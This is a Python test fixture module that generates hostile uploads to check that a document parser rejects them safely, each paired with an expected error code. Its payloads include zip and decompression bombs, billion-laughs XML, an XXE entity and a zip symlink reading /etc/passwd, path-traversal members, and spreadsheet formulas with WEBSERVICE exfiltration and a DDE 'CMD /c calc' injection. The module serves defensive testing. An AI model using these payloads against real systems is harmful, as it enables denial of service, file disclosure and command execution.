"""Files made to do harm, generated: what each does, and how it must end."""

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from backend.core.errors import ErrorCode

_WORD = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
_BOOK_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
    b'"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """`code` None: it is read, and harmless. `never` must not stand in what was read."""

    path: str
    make: Callable[[], bytes]
    code: ErrorCode | None = None
    never: str = ""


def zipped(**members: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as container:
        for name, data in members.items():
            container.writestr(name.replace("__", "/").replace("_xml", ".xml"), data)
    return target.getvalue()


def word_file(body: bytes, *, before: bytes = b"") -> bytes:
    return zipped(word__document_xml=before + _WORD % body)


def zip_bomb() -> bytes:
    return word_file(b"<w:p/>" + bytes(400_000_000))


def lying_zip_bomb() -> bytes:
    """The central directory says that the part has ten bytes."""
    data = bytearray(word_file(b"<w:p/>" + b" " * 50_000_000))
    place = data.rindex(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(data)


def many_parts() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as container:
        container.writestr("word/document.xml", _WORD % b"")
        for number in range(25_000):
            container.writestr(f"word/{number}", b"")
    return target.getvalue()


def billion_laughs() -> bytes:
    levels = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
    return word_file(
        b"<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>",
        before=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">' + levels + b"]>",
    )


def external_entity() -> bytes:
    return word_file(
        b"<w:p><w:r><w:t>before &x; after</w:t></w:r></w:p>",
        before=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    )


def huge_image() -> bytes:
    """A PNG of 60,000 by 60,000 pixels in a few kilobytes."""

    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + part(b"IHDR", header) + part(b"IDAT", zlib.compress(bytes(100_000))) + part(b"IEND", b"")
    )


def _pdf(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))
    return out.getvalue()


def _page(text: bytes) -> list[bytes]:
    stream = b"BT /F1 12 Tf 72 700 Td (%s) Tj ET" % text
    return [
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"
        ),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]


def endless_outline() -> bytes:
    """An outline whose entries follow each other in a circle, and lie within themselves."""
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        *_page(b"The page itself."),
        b"<< /Type /Outlines /First 6 0 R /Last 7 0 R /Count 2 >>",
        b"<< /Title (One) /Parent 5 0 R /Next 7 0 R /First 6 0 R /Last 7 0 R /Dest [3 0 R /Fit] >>",
        b"<< /Title (Two) /Parent 6 0 R /Next 6 0 R /First 5 0 R /Last 6 0 R /Dest [3 0 R /Fit] >>",
    ])  # fmt: skip


def pages_in_a_circle() -> bytes:
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 1000000 >>",
        *_page(b"The page itself."),
    ])  # fmt: skip


def inflating_page() -> bytes:
    """One page whose stream unpacks to 200 MB."""
    packed = zlib.compress(b"BT (x) Tj ET " * 16_000_000, 9)
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _page(b"")[0],
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
    ])  # fmt: skip


def formula_cells() -> bytes:
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        b'<c r="A1"><f>WEBSERVICE("http://127.0.0.1:1/steal")</f><v>42</v></c>'
        b'<c r="B1" t="str"><f>CMD|\'/c calc\'!A0</f><v>shown</v></c></row></sheetData></worksheet>'
    )
    relation = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = b"http://schemas.openxmlformats.org/package/2006/relationships"
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as book:
        book.writestr("[Content_Types].xml", _BOOK_TYPES)
        book.writestr(
            "_rels/.rels",
            b'<Relationships xmlns="%s"><Relationship Id="r1" Type="%s/officeDocument" Target="xl/workbook.xml"/>'
            b"</Relationships>" % (package, relation),
        )
        book.writestr(
            "xl/workbook.xml",
            b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s"><sheets>'
            b'<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>' % relation,
        )
        book.writestr(
            "xl/_rels/workbook.xml.rels",
            b'<Relationships xmlns="%s"><Relationship Id="r1" Type="%s/worksheet" Target="worksheets/s.xml"/>'
            b"</Relationships>" % (package, relation),
        )
        book.writestr("xl/worksheets/s.xml", sheet)
    return target.getvalue()


def climbing_parts() -> bytes:
    return zipped(
        **{"../../../../tmp/escaped": b"x", "word__document_xml": _WORD % b"<w:p><w:r><w:t>in</w:t></w:r></w:p>"}
    )


def symlink_zip(name: str, to: str) -> bytes:
    """A member that is a link to a file of the server's."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as container:
        link = zipfile.ZipInfo(name)
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        container.writestr(link, to)
    return target.getvalue()


TOO_LARGE, UNREADABLE = ErrorCode.DOCUMENT_TOO_LARGE, ErrorCode.DOCUMENT_UNREADABLE
TYPE, NO_TEXT = ErrorCode.DOCUMENT_TYPE, ErrorCode.DOCUMENT_NO_TEXT
FILES: dict[str, Hostile] = {
    "zip bomb": Hostile(path="a.docx", make=zip_bomb, code=TOO_LARGE),
    "zip bomb that lies about its size": Hostile(path="a.docx", make=lying_zip_bomb, code=UNREADABLE),
    "zip of many parts": Hostile(path="a.docx", make=many_parts, code=TOO_LARGE),
    "entities within entities": Hostile(path="a.docx", make=billion_laughs, code=UNREADABLE, never="haha"),
    "entity that names a file": Hostile(path="a.docx", make=external_entity, never="root:"),
    "image of 60,000 by 60,000": Hostile(path="a.png", make=huge_image, code=TYPE),
    "image in a text's clothes": Hostile(path="a.txt", make=huge_image, code=TYPE),
    "outline in a circle": Hostile(path="a.pdf", make=endless_outline),
    "pages in a circle": Hostile(path="a.pdf", make=pages_in_a_circle, code=TOO_LARGE),
    "page that unpacks to 200 MB": Hostile(path="a.pdf", make=inflating_page, code=TOO_LARGE),
    "formula cells": Hostile(path="a.xlsx", make=formula_cells, never="WEBSERVICE"),
    "parts that climb": Hostile(path="a.docx", make=climbing_parts),
    "link in a zip": Hostile(
        path="a.docx", make=lambda: symlink_zip("word/document.xml", "/etc/passwd"), code=UNREADABLE, never="root:"
    ),
    "nothing at all": Hostile(path="a.pdf", make=lambda: b"", code=NO_TEXT),
    "noise named pdf": Hostile(path="a.pdf", make=lambda: random.Random(7).randbytes(200_000), code=TYPE),
    "program named txt": Hostile(path="a.txt", make=lambda: b"\x7fELF" + bytes(range(256)) * 40, code=TYPE),
    "deep markup": Hostile(path="a.html", make=lambda: b"<div>" * 20_000 + b"in" + b"</div>" * 20_000),
}
